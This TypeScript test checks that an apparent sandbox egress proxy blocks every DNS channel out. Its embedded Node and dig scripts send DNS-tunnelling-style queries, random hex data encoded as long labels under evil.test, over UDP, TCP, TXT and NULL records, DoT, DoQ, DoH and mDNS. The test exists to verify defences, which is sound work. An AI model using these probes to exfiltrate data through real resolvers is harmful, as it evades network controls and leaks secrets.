// What a sandbox asks of DNS, in every way there is: answered where it may be, counted where it may not, and never heard of outside. What
// clients do with the answers is in clients.test.ts.
import { copyFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import t from 'tap';
import { needs } from '../helpers/needs.ts';
import { makeWorld, worldNeeds } from './world.ts';

const wanted = [...worldNeeds, 'dig'];

// A slow machine is no failure.
t.setTimeout(300_000);

/** A public-looking address; all of them are local outside. */
const elsewhere = '8.8.8.8';

/** The names of a policy that also allows a second port. */
const policy = {
  version: 1,
  allow: [
    { id: 'allow/good.test', host: 'good.test', ports: [443, 8443], reason: 'the origin of the test' },
    { id: 'allow/nowhere.test', host: 'nowhere.test', reason: 'a name that the hosts file does not have' },
  ],
};

/**
 * Asks in every way there is, from inside. Each line it prints is one way and what came of it: a code of DNS, an error of the system, or
 * `silence`.
 */
const askingCode = `
const dgram = require('node:dgram'), net = require('node:net'), tls = require('node:tls'), [, , proxy, outside] = process.argv
const secret = Array.from({ length: 4 }, () => require('node:crypto').randomBytes(24).toString('hex')).join('.') + '.evil.test'
const query = (name, type) => Buffer.concat([Buffer.from([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]),
  ...name.split('.').map(label => Buffer.from([label.length, ...Buffer.from(label)])), Buffer.from([0, type >> 8, type & 255, 0, 1])])
const within = work => Promise.race([work, new Promise(done => setTimeout(done, 700, 'silence'))])
const udp = (address, port, bytes) => within(new Promise(done => {
  const socket = dgram.createSocket('udp4')
  socket.on('error', error => done(error.code)).on('message', answer => done('code ' + (answer[3] & 15) + ', answers ' + answer[7]))
  socket.send(bytes, port, address, error => error && done(error.code))
}))
const tcp = (address, port, bytes) => within(new Promise(done => {
  const socket = net.connect(port, address, () => socket.write(Buffer.concat([Buffer.from([0, bytes.length]), bytes])))
  socket.on('error', error => done(error.code)).on('data', answer => done('code ' + (answer[5] & 15) + ', answers ' + answer[9]))
}))
const secure = (address, port, servername) => within(new Promise(done => {
  const socket = tls.connect({ host: address, port, servername, rejectUnauthorized: false }, () => done('CONNECTED'))
  socket.on('error', error => done(error.code))
}))
;(async () => {
  for (const [what, work] of Object.entries({
    'a long name': () => udp(proxy, 53, query(secret, 1)),
    'a long name over TCP': () => tcp(proxy, 53, query(secret, 1)),
    'its text': () => udp(proxy, 53, query(secret, 16)),
    'its NULL record': () => udp(proxy, 53, query(secret, 10)),
    'ANY': () => udp(proxy, 53, query('nowhere.test', 255)),
    'an allowed name that nobody has looked up': () => udp(proxy, 53, query('nowhere.test', 1)),
    'its text, too': () => udp(proxy, 53, query('nowhere.test', 16)),
    'the resolver of a container engine': () => udp('127.0.0.11', 53, query(secret, 1)),
    'DNS elsewhere': () => udp(outside, 53, query(secret, 1)),
    'DNS elsewhere over TCP': () => tcp(outside, 53, query(secret, 1)),
    'DoT': () => secure(proxy, 853, 'dns.evil.test'),
    'DoT elsewhere': () => secure(outside, 853, 'dns.evil.test'),
    'DoQ': () => udp(proxy, 853, query(secret, 1)),
    'mDNS': () => udp('224.0.0.251', 5353, query('x.local', 1)),
    'DoH': () => secure(proxy, 443, 'dns.evil.test'),
    'DoH elsewhere': () => secure(outside, 443, 'dns.evil.test'),
  })) console.log(what + ': ' + await work())
  console.log('asked')
  if (process.argv.includes('end')) process.exit()
})()
setInterval(() => {}, 1000)
`;

/**
 * The tool itself. \`$A\` answers DNS in this place, \`$S\` would elsewhere. Each line is what was asked and what dig said of it, \`none\` when nobody
 * answered.
 */
const digging = `
L=$(printf 'x%.0s' $(seq 60)).$(printf 'y%.0s' $(seq 60)).$(printf 'z%.0s' $(seq 60)).evil.test
ask() { printf 'dig %s: ' "$(echo "$*" | sed "s/$L/LONG/; s/$A/HERE/; s/$S/ELSEWHERE/")"
  dig +time=1 +tries=1 "$@" 2>&1 | grep -oE 'status: [A-Z]+' || echo none; }
ask $L @$A; ask $L TXT @$A; ask $L +tcp @$A; ask nowhere.test ANY +notcp @$A; ask nowhere.test ANY @$A
ask $L @$S; ask $L TXT @$S; ask nowhere.test ANY @$S; ask $L +tcp @$S
ask $L +tls @$A; ask $L +tls @$S
ask $L +https @$A; ask $L +https @$S; ask $L +https +tls-hostname=dns.evil.test @$A; ask $L +https +tls-hostname=dns.evil.test @$S
`;

/** What came of each way, as it is printed. */
const answers: readonly (readonly [what: string, answer: string])[] = [
  ...['a long name', 'a long name over TCP', 'its text', 'its NULL record'].map(
    (what) => [what, 'code 3, answers 0'] as const,
  ),
  ['ANY', 'code 5, answers 0'],
  ['an allowed name that nobody has looked up', 'code 0, answers 1'],
  ['its text, too', 'code 0, answers 0'],
  ...['DoT', 'DoQ'].map((what) => [what, 'silence'] as const),
  ...['DNS elsewhere', 'DNS elsewhere over TCP', 'DoT elsewhere', 'mDNS', 'DoH elsewhere'].map(
    (what) => [what, 'ENETUNREACH'] as const,
  ),
  ['DoH', 'ERR_SSL_TLSV1_ALERT_ACCESS_DENIED'],
  ...['LONG @HERE', 'LONG TXT @HERE', 'LONG +tcp @HERE'].map(
    (what) => [`dig ${what}`, 'status: NXDOMAIN'] as const,
  ),
  ...['ANY +notcp @HERE', 'ANY @HERE'].map(
    (what) => [`dig nowhere.test ${what}`, 'status: REFUSED'] as const,
  ),
  ...['', ' TXT', ' +tcp', ' +tls', ' +https', ' +https +tls-hostname=dns.evil.test'].map(
    (what) => [`dig LONG${what} @ELSEWHERE`, 'none'] as const,
  ),
  ...['+tls', '+https', '+https +tls-hostname=dns.evil.test'].map(
    (what) => [`dig LONG ${what} @HERE`, 'none'] as const,
  ),
];

/** Receivers outside: a line for each packet or connection. Every address is local there, so the proxy's own resolver is one of them. */
const sinkCode = `
process.stdin.resume().on('close', () => process.exit())
const said = what => console.log('hit ' + what), opened = []
for (const port of [53, 853, 443, 5353, 9]) opened.push(new Promise(done =>
  require('node:dgram').createSocket('udp4').on('message', () => said('udp ' + port)).bind(port, '0.0.0.0', done)))
for (const [port, address] of [[53, '0.0.0.0'], [853, '0.0.0.0'], [1443, '0.0.0.0']]) opened.push(new Promise(done =>
  require('node:net').createServer(socket => { said('tcp ' + port % 1000); socket.on('error', () => {}).resume(); setTimeout(() => socket.destroy(), 500) }).listen(port, address, done)))
Promise.all(opened).then(() => console.log('listening'))
`;

t.test('DNS in a sandbox', { skip: needs(t, wanted) }, async (t) => {
  const world = await makeWorld(t);
  const file = join(world.dir, 'steer.json');
  writeFileSync(file, JSON.stringify(policy));
  copyFileSync(process.execPath, join(world.workspace, 'node'));
  const bare = ['--policy', file, '--workspace', world.workspace, '--wiring', 'transparent'];

  t.test('no question of any kind leaves, and each is counted where it ended', async (t) => {
    writeFileSync(join(world.workspace, 'ask.cjs'), askingCode);
    const script = [
      'unset NODE_OPTIONS',
      `read -r _ A </etc/resolv.conf; S=${elsewhere}`,
      digging,
      'exec /workspace/node /workspace/ask.cjs $A $S',
    ];
    // The origin of this world has port 443 of every address.
    await world.outside.must([
      'nft',
      `add table ip sink; add chain ip sink in { type nat hook prerouting priority -100; }; add rule ip sink in ip daddr ${elsewhere} tcp dport 443 redirect to :1443`,
    ]);
    const sinks = world.outside.start([process.execPath, '-e', sinkCode]);
    await sinks.line((line) => line === 'listening');
    const capture = await world.capture();
    const named = world.name('asking');
    const run = world.start(
      [...bare, '--name', named, '--metrics', '10.98.0.1:9191'],
      ['sh', '-c', script.join('\n')],
    );
    await run.line('asked');
    const metrics = await world.host.must(['curl', '-sS', '--noproxy', '*', 'http://10.98.0.1:9191/metrics']);
    const drops = await world.drops(named);
    run.child.kill('SIGTERM');
    await run.ended;
    const said = new Map(
      run.lines
        .filter((line) => /^[\w ,.+@=-]+: /.test(line))
        .map((line) => [line.slice(0, line.indexOf(': ')), line.slice(line.indexOf(': ') + 2)] as const),
    );
    const told = (what: string): string => said.get(what) ?? 'nothing';
    for (const [what, answer] of answers) t.equal(told(what), answer, what);
    t.notMatch(told('the resolver of a container engine'), /code|nothing/);
    const ofGate = { nxdomain: 4, refused: 4, address: 2, empty: 2 }; // each of its questions over UDP and TCP
    const asked = { nxdomain: 7, refused: 3, address: 1, empty: 1 };
    for (const answer of ['nxdomain', 'refused', 'address', 'empty'] as const)
      t.ok(
        metrics.includes(
          `sallyport_dns_answers_total{answer="${answer}"} ${ofGate[answer] + asked[answer]}\n`,
        ),
        answer,
      );
    const denied = (reason: string): string =>
      `decisions_total{verdict="deny",reason="${reason}",mode="transparent"}`;
    t.ok(metrics.includes(`${denied('no_rule_matched')} 2\n`), 'DoH by name was denied, and so was the gate');
    t.ok(metrics.includes(`${denied('server_name_missing')} 2\n`), 'DoH by address was denied');
    t.ok((drops.get('dns') ?? 0) >= 3, 'the fence counted DoT and DoQ');
    t.match(run.lines.at(-1), /denied \d+: .*evil\.test no_rule_matched/);
    // What comes last proves that whatever came before it would have been told.
    const mark = async (): Promise<void> => {
      await world.host.run(['sh', '-c', `echo | nc -u -w1 ${elsewhere} 9`]);
      await sinks.line((line) => line === 'hit udp 9');
    };
    await mark();
    t.same(sinks.lines, ['listening', 'hit udp 9'], 'no receiver has heard a thing');
    // The control: the same questions of the machine itself, which has no fence.
    const freely = [
      'unset NODE_OPTIONS',
      `A=${elsewhere} S=${elsewhere}`,
      digging,
      '"$1" "$2" $A $S end',
    ].join('\n');
    const control = await world.host.run(
      ['sh', '-c', freely, 'sh', process.execPath, join(world.workspace, 'ask.cjs')],
      { timeoutMs: 60_000 },
    );
    t.equal(control.code, 0, control.stderr);
    const heard = new Set(sinks.lines);
    const receivers = ['udp 53', 'tcp 53', 'tcp 853', 'udp 853', 'tcp 443'].map((one) => `hit ${one}`);
    t.same(
      receivers.filter((one) => !heard.has(one)),
      [],
      'without the fence every receiver hears of it',
    );
    const packets = await capture.stop();
    t.ok(packets.length > 0 && packets.every((line) => line.includes(' 10.98.0.1.')), packets.join('\n'));
  });
});
